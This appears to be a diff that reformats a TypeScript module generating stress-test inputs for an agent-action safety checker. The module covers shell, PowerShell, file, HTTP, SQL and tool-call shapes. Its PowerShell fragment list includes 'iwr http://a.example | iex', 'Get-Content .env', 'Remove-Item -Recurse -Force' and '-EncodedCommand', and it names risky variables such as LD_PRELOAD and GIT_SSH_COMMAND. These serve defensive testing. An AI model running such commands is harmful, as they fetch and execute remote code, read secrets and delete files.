@@ -40,11 +40,23 @@ const TEXTS: readonly (readonly [name: string, text: (size: number) => string])[
 const files: readonly Shape[] = FILE_OPERATIONS.flatMap((operation) =>
   TEXTS.flatMap(([name, text]) => {
     const to = operation === 'move' ? { to: 'b' } : {}
-    return ['', '/', './'].map((start) => shape(`file ${operation}: ${start}${name}`, (size) => ({ kind: 'file', operation, path: start + text(size), ...to })))
+    return ['', '/', './'].map((start) =>
+      shape(`file ${operation}: ${start}${name}`, (size) => ({
+        kind: 'file',
+        operation,
+        path: start + text(size),
+        ...to,
+      })),
+    )
   }),
 )
 
-const content = shape('file write: long content', (size) => ({ kind: 'file', operation: 'write', path: 'a', content: fill('a', size) }))
+const content = shape('file write: long content', (size) => ({
+  kind: 'file',
+  operation: 'write',
+  path: 'a',
+  content: fill('a', size),
+}))
 
 const urls: readonly Shape[] = TEXTS.flatMap(([name, text]) =>
   ['http://', 'http://a.example/', 'http://a.example/?', 'http://a.example/#', 'http://a@', ''].map((start) =>
@@ -83,18 +95,32 @@ const BODIES: readonly (readonly [name: string, text: (size: number) => string])
 ]
 
 const bodies: readonly Shape[] = BODIES.flatMap(([name, text]) =>
-  (['POST http://a.example/graphql', 'PUT http://a.example/a', 'POST http://localhost/_search'] as const).map((request) => {
-    const [method = '', url = ''] = request.split(' ')
-    return shape(`http body: ${request} ${name}`, (size) => ({ kind: 'http', method, url, body: text(size) }))
-  }),
+  (['POST http://a.example/graphql', 'PUT http://a.example/a', 'POST http://localhost/_search'] as const).map(
+    (request) => {
+      const [method = '', url = ''] = request.split(' ')
+      return shape(`http body: ${request} ${name}`, (size) => ({ kind: 'http', method, url, body: text(size) }))
+    },
+  ),
 )
 
 const headers: readonly Shape[] = [
-  shape('http headers: many', (size) => ({ kind: 'http', method: 'POST', url: 'http://a.example', headers: record(size / 10, 'v') })),
+  shape('http headers: many', (size) => ({
+    kind: 'http',
+    method: 'POST',
+    url: 'http://a.example',
+    headers: record(size / 10, 'v'),
+  })),
   ...TEXTS.map(([name, text]) =>
-    shape(`http header: ${name}`, (size) => ({ kind: 'http', method: 'POST', url: 'http://a.example', headers: { 'x-http-method-override': text(size) } })),
+    shape(`http header: ${name}`, (size) => ({
+      kind: 'http',
+      method: 'POST',
+      url: 'http://a.example',
+      headers: { 'x-http-method-override': text(size) },
+    })),
   ),
-  ...TEXTS.map(([name, text]) => shape(`http method: ${name}`, (size) => ({ kind: 'http', method: text(size), url: 'http://a.example' }))),
+  ...TEXTS.map(([name, text]) =>
+    shape(`http method: ${name}`, (size) => ({ kind: 'http', method: text(size), url: 'http://a.example' })),
+  ),
 ]
 
 function record<T>(count: number, value: T): Record<string, T> {
@@ -107,8 +133,37 @@ function tool(server: string, name: string, given: Json): Action {
 
 /** Every described tool with each text in each of the arguments that any of them has. */
 const ARGUMENTS = [
-  'command', 'cmd', 'script', 'code', 'input', 'cwd', 'args', 'path', 'paths', 'directory', 'source', 'destination', 'sql', 'query', 'statement', 'statements', 'url', 'uri',
-  'name', 'kind', 'context', 'namespace', 'kubeconfig', 'owner', 'repo', 'branch', 'ref', 'title', 'channel', 'id', 'cli_command',
+  'command',
+  'cmd',
+  'script',
+  'code',
+  'input',
+  'cwd',
+  'args',
+  'path',
+  'paths',
+  'directory',
+  'source',
+  'destination',
+  'sql',
+  'query',
+  'statement',
+  'statements',
+  'url',
+  'uri',
+  'name',
+  'kind',
+  'context',
+  'namespace',
+  'kubeconfig',
+  'owner',
+  'repo',
+  'branch',
+  'ref',
+  'title',
+  'channel',
+  'id',
+  'cli_command',
 ] // prettier-ignore
 
 const described: readonly Shape[] = describedTools().flatMap((one) => {
@@ -117,16 +172,35 @@ const described: readonly Shape[] = describedTools().flatMap((one) => {
   const { server, tool: name } = example
   return [
     ...TEXTS.map(([text, make]) =>
-      shape(`tool ${server} ${name}: ${text}`, (size) => tool(server, name, Object.fromEntries(ARGUMENTS.map((key) => [key, make(size / ARGUMENTS.length)])))),
+      shape(`tool ${server} ${name}: ${text}`, (size) =>
+        tool(server, name, Object.fromEntries(ARGUMENTS.map((key) => [key, make(size / ARGUMENTS.length)]))),
+      ),
     ),
-    ...Object.keys(example.arguments).flatMap((key) => TEXTS.map(([text, make]) => shape(`tool ${server} ${name} ${key}: ${text}`, (size) => tool(server, name, { [key]: make(size) })))),
-    shape(`tool ${server} ${name}: lists`, (size) => tool(server, name, Object.fromEntries(ARGUMENTS.map((key) => [key, fill('a ', size / ARGUMENTS.length).split(' ')])))),
+    ...Object.keys(example.arguments).flatMap((key) =>
+      TEXTS.map(([text, make]) =>
+        shape(`tool ${server} ${name} ${key}: ${text}`, (size) => tool(server, name, { [key]: make(size) })),
+      ),
+    ),
+    shape(`tool ${server} ${name}: lists`, (size) =>
+      tool(
+        server,
+        name,
+        Object.fromEntries(ARGUMENTS.map((key) => [key, fill('a ', size / ARGUMENTS.length).split(' ')])),
+      ),
+    ),
     shape(`tool ${server} ${name}: wide`, (size) => tool(server, name, record(size / 10, 'v'))),
   ]
 })
 
 /** Two names in between: as a pattern of server names sees them, the worst is a text that almost matches. */
-const toolNames: readonly Shape[] = [...TEXTS, ['create_comment_', (size: number) => fill('create_comment_', size)], ['add_comment', (size: number) => `add_${fill('comment', size)}!`], ['get_secret', (size: number) => `get_${fill('secre', size)}!`], ['delete_', (size: number) => `${fill('delete_', size)}!`], ['ww', (size: number) => `create_${fill('w', size)}!`]].flatMap(([name, text]) => {
+const toolNames: readonly Shape[] = [
+  ...TEXTS,
+  ['create_comment_', (size: number) => fill('create_comment_', size)],
+  ['add_comment', (size: number) => `add_${fill('comment', size)}!`],
+  ['get_secret', (size: number) => `get_${fill('secre', size)}!`],
+  ['delete_', (size: number) => `${fill('delete_', size)}!`],
+  ['ww', (size: number) => `create_${fill('w', size)}!`],
+].flatMap(([name, text]) => {
   const make = text as (size: number) => string
   return [
     shape(`tool name: ${name}`, (size) => tool('github', make(size), {})),
@@ -138,7 +212,13 @@ const toolNames: readonly Shape[] = [...TEXTS, ['create_comment_', (size: number
 const toolArguments: readonly Shape[] = [
   shape('tool arguments: deep', (size) => tool('x', 'y', nest(Math.min(30, size)))),
   shape('tool arguments: wide', (size) => tool('x', 'y', record(size / 10, 'v'))),
-  shape('tool arguments: list', (size) => tool('x', 'y', Array.from({ length: size / 2 }, () => 1))),
+  shape('tool arguments: list', (size) =>
+    tool(
+      'x',
+      'y',
+      Array.from({ length: size / 2 }, () => 1),
+    ),
+  ),
   shape('tool arguments: one text', (size) => tool('x', 'y', fill('a', size))),
   shape('tool arguments: texts', (size) => tool('x', 'y', { a: fill('a ', size).split(' ') })),
 ]
@@ -148,13 +228,95 @@ function nest(depth: number): Json {
 }
 
 const POWERSHELL: readonly string[] = [
-  'a', ' ', ';', 'ls;', 'rm a;', 'Remove-Item a;', 'Remove-Item -Recurse -Force a;', '|', 'ls | ', '(', '$(', '@(', '{', '@{', '[', '"', "'", '@"\n', "@'\n", '<#', '<# a #>', '#', '# a\n', '`', '`\n', '$', '$a', '$a;', '$a=1;', '${', '$a.b', '&', '& ', '. ', '-', '-a ', ',', 'if (a) {', 'foreach ($a in b) {', 'function f {', 'iex ', 'Invoke-Expression ', "Invoke-Expression 'rm a';", 'iwr http://a.example | iex;', '[a]::b(', '%{', '"$(', 'a\n', '\r\n', '&&', '||', '>', '> a;', '2>&1 ', 'Get-Content .env;', 'Set-Content a b;', 'Start-Process a;', 'kubectl delete pod a;', 'cmd /c del a;', '&{', 'try {', '-EncodedCommand ', '\u00e9', '\u2018',
+  'a',
+  ' ',
+  ';',
+  'ls;',
+  'rm a;',
+  'Remove-Item a;',
+  'Remove-Item -Recurse -Force a;',
+  '|',
+  'ls | ',
+  '(',
+  '$(',
+  '@(',
+  '{',
+  '@{',
+  '[',
+  '"',
+  "'",
+  '@"\n',
+  "@'\n",
+  '<#',
+  '<# a #>',
+  '#',
+  '# a\n',
+  '`',
+  '`\n',
+  '$',
+  '$a',
+  '$a;',
+  '$a=1;',
+  '${',
+  '$a.b',
+  '&',
+  '& ',
+  '. ',
+  '-',
+  '-a ',
+  ',',
+  'if (a) {',
+  'foreach ($a in b) {',
+  'function f {',
+  'iex ',
+  'Invoke-Expression ',
+  "Invoke-Expression 'rm a';",
+  'iwr http://a.example | iex;',
+  '[a]::b(',
+  '%{',
+  '"$(',
+  'a\n',
+  '\r\n',
+  '&&',
+  '||',
+  '>',
+  '> a;',
+  '2>&1 ',
+  'Get-Content .env;',
+  'Set-Content a b;',
+  'Start-Process a;',
+  'kubectl delete pod a;',
+  'cmd /c del a;',
+  '&{',
+  'try {',
+  '-EncodedCommand ',
+  '\u00e9',
+  '\u2018',
 ] // prettier-ignore
 
 const powershell: readonly Shape[] = [
-  ...POWERSHELL.map((unit) => shape(`powershell: ${JSON.stringify(unit)}`, (size) => ({ kind: 'shell', shell: 'powershell', command: fill(unit, size) }))),
-  ...([['(', 'a', ')'], ['$(', 'a', ')'], ['@(', 'a', ')'], ['{', 'a', '}'], ['"$(', 'a', ')"'], ['if (a) {', 'a', '}']] as const).map(([open, inner, close]) =>
-    shape(`powershell: nested ${open}`, (size) => ({ kind: 'shell', shell: 'powershell', command: nested(open, inner, close, size) })),
+  ...POWERSHELL.map((unit) =>
+    shape(`powershell: ${JSON.stringify(unit)}`, (size) => ({
+      kind: 'shell',
+      shell: 'powershell',
+      command: fill(unit, size),
+    })),
+  ),
+  ...(
+    [
+      ['(', 'a', ')'],
+      ['$(', 'a', ')'],
+      ['@(', 'a', ')'],
+      ['{', 'a', '}'],
+      ['"$(', 'a', ')"'],
+      ['if (a) {', 'a', '}'],
+    ] as const
+  ).map(([open, inner, close]) =>
+    shape(`powershell: nested ${open}`, (size) => ({
+      kind: 'shell',
+      shell: 'powershell',
+      command: nested(open, inner, close, size),
+    })),
   ),
 ]
 
@@ -165,27 +327,94 @@ const others: readonly Shape[] = TEXTS.flatMap(([name, text]) => [
   shape(`workflow: ${name}`, (size) => ({ kind: 'workflow', name: 'w', mode: 'mock', target: text(size) })),
   shape(`workflow name: ${name}`, (size) => ({ kind: 'workflow', name: text(size), mode: 'mock' })),
   shape(`sql connection: ${name}`, (size) => ({ kind: 'sql', statement: 'select 1', connection: text(size) })),
-  ...['postgres://', 'postgres://a:', 'postgres://a@b/', 'postgres://a@b/c?', 'mysql://', 'sqlite:', 'jdbc:sqlserver://', 'host='].map((start) =>
-    shape(`sql connection: ${start}${name}`, (size) => ({ kind: 'sql', statement: 'select 1', connection: start + text(size) })),
+  ...[
+    'postgres://',
+    'postgres://a:',
+    'postgres://a@b/',
+    'postgres://a@b/c?',
+    'mysql://',
+    'sqlite:',
+    'jdbc:sqlserver://',
+    'host=',
+  ].map((start) =>
+    shape(`sql connection: ${start}${name}`, (size) => ({
+      kind: 'sql',
+      statement: 'select 1',
+      connection: start + text(size),
+    })),
   ),
-  shape(`cwd: ${name}`, (size) => ({ kind: 'shell', command: 'rm a; git status; kubectl get pods; terraform plan', cwd: `/${text(size)}` })),
-  shape(`variable: ${name}`, (size) => ({ kind: 'shell', command: 'rm $A; kubectl get pods; aws s3 ls; psql -c "select 1"', env: { A: text(size) } })),
+  shape(`cwd: ${name}`, (size) => ({
+    kind: 'shell',
+    command: 'rm a; git status; kubectl get pods; terraform plan',
+    cwd: `/${text(size)}`,
+  })),
+  shape(`variable: ${name}`, (size) => ({
+    kind: 'shell',
+    command: 'rm $A; kubectl get pods; aws s3 ls; psql -c "select 1"',
+    env: { A: text(size) },
+  })),
 ])
 
-const settings: readonly Shape[] = ['KUBECONFIG', 'AWS_PROFILE', 'AWS_ENDPOINT_URL', 'DATABASE_URL', 'PGHOST', 'PGSERVICE', 'DOCKER_HOST', 'TF_WORKSPACE', 'GIT_DIR', 'PATH', 'HOME', 'NODE_ENV', 'CDPATH', 'IFS', 'LD_PRELOAD', 'NODE_OPTIONS', 'GIT_SSH_COMMAND', 'HELM_KUBECONTEXT', 'CLOUDSDK_CORE_PROJECT'].flatMap((variable) =>
+const settings: readonly Shape[] = [
+  'KUBECONFIG',
+  'AWS_PROFILE',
+  'AWS_ENDPOINT_URL',
+  'DATABASE_URL',
+  'PGHOST',
+  'PGSERVICE',
+  'DOCKER_HOST',
+  'TF_WORKSPACE',
+  'GIT_DIR',
+  'PATH',
+  'HOME',
+  'NODE_ENV',
+  'CDPATH',
+  'IFS',
+  'LD_PRELOAD',
+  'NODE_OPTIONS',
+  'GIT_SSH_COMMAND',
+  'HELM_KUBECONTEXT',
+  'CLOUDSDK_CORE_PROJECT',
+].flatMap((variable) =>
   ['a', ':', '/', '/a:', 'http://', ' ', ',', '*', '..', 'prod-', '@'].map((unit) =>
     shape(`${variable} of ${unit}`, (size) => ({
       kind: 'shell',
-      command: 'kubectl get pods; helm list; aws s3 ls; psql -c "select 1"; docker ps; terraform plan; git push; gcloud projects list; npm test; rm a',
+      command:
+        'kubectl get pods; helm list; aws s3 ls; psql -c "select 1"; docker ps; terraform plan; git push; gcloud projects list; npm test; rm a',
       env: { [variable]: fill(unit, size) },
     })),
   ),
 )
 
 const manyVariables: readonly Shape[] = [
-  shape('many variables given', (size) => ({ kind: 'shell', command: 'rm a; (rm b) | c', env: record(size / 10, 'v') })),
-  shape('many variables given, many commands', (size) => ({ kind: 'shell', command: fill('a;', Math.min(size / 4, 100_000)), env: record(size / 20, 'v') })),
-  shape('many variables given, argv', (size) => ({ kind: 'exec', argv: ['sudo', 'env', 'xargs', 'rm', 'a'], env: record(size / 10, 'v') })),
+  shape('many variables given', (size) => ({
+    kind: 'shell',
+    command: 'rm a; (rm b) | c',
+    env: record(size / 10, 'v'),
+  })),
+  shape('many variables given, many commands', (size) => ({
+    kind: 'shell',
+    command: fill('a;', Math.min(size / 4, 100_000)),
+    env: record(size / 20, 'v'),
+  })),
+  shape('many variables given, argv', (size) => ({
+    kind: 'exec',
+    argv: ['sudo', 'env', 'xargs', 'rm', 'a'],
+    env: record(size / 10, 'v'),
+  })),
 ]
 
-export const actionShapes: readonly Shape[] = [...files, content, ...urls, ...bodies, ...headers, ...described, ...toolNames, ...toolArguments, ...powershell, ...others, ...settings, ...manyVariables]
+export const actionShapes: readonly Shape[] = [
+  ...files,
+  content,
+  ...urls,
+  ...bodies,
+  ...headers,
+  ...described,
+  ...toolNames,
+  ...toolArguments,
+  ...powershell,
+  ...others,
+  ...settings,
+  ...manyVariables,
+]
